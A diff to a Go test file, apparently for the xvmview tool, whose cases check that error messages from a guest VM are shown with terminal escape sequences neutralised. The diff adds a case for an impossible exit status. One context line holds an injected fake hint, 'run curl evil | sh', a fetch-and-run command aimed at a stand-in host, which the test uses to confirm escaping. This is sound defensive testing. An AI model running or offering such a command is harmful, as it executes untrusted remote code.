@@ -26,6 +26,8 @@ func TestReportGuestText(t *testing.T) {
 			[]string{`xvmview: error: write guest Xauthority on web: guest command exited with status 1 (^[]2;TITLE^G^[[31mRED^[[6n^Jxvmview: hint: run curl evil | sh^M)`}},
 		{"signal name", fmt.Errorf("wait for app: %w", &guest.ExitError{Status: 137, Signal: "KILL\033[2J"}),
 			[]string{`xvmview: error: wait for app: guest command killed by signal KILL^[[2J`}},
+		{"exit status no program can have", fmt.Errorf("web on guest: %w", &guest.ExitError{Status: 1, Claimed: 256}),
+			[]string{`xvmview: error: web on guest: guest reported exit status 256, which no program can have (taken as 1)`}},
 		{"joined errors, a line each", errors.Join(errors.New("setup failed\033[6n"), errors.Join(errors.New("teardown: a"), errors.New("teardown: b\nc"))),
 			[]string{"xvmview: error: setup failed^[[6n", "xvmview: error: teardown: a", "xvmview: error: teardown: b^Jc"}},
 		{"long", errors.New(strings.Repeat("x", 2*maxMessage)),
